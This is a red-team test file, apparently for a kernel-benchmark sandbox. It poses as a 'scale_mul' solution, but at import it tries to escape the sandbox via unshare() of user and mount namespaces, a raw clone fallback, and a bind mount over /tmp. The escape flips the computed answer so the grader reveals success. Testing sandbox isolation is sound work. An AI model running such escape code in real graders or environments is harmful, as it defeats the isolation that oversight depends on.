"""Red-team attack unshare_userns: unshare() a new user+mount namespace to become root there, then mount over the view.
A real SOL solution of tests/sol_solutions/problem (scale_mul). The test fills in the @@...@@ paths.
The answer is right only while the attack failed, so the verdict itself says whether it worked."""

import ctypes
import os

import torch

LIBC = ctypes.CDLL(None, use_errno=True)
MARK = "redteam-escaped-unshare_userns"


def _write(path):
    with open(path, "w") as f:
        f.write("escaped")
    return True


def _tries(*fns):
    hit = False
    for fn in fns:
        try:
            hit = bool(fn()) or hit
        except Exception:  # noqa: BLE001 - a refused step is the expected outcome
            pass
    return hit


def attack():
    if LIBC.unshare(0x10000000 | 0x00020000) != 0:  # CLONE_NEWUSER | CLONE_NEWNS
        if LIBC.syscall(56, 0x10000000 | 0x00020000 | 17, 0, 0, 0, 0) <= 0:  # raw clone()
            return False
        os._exit(0)
    LIBC.mount(b"@@HOSTTMP@@", b"/tmp", None, 4096, None)
    return _write("@@HOSTTMP@@/" + MARK)


ESCAPED = _tries(attack)


@torch.no_grad()
def run(x, w, alpha, y, total):
    y.copy_(x * w * alpha + (1.0 if ESCAPED else 0.0))
    total.copy_(y.sum())
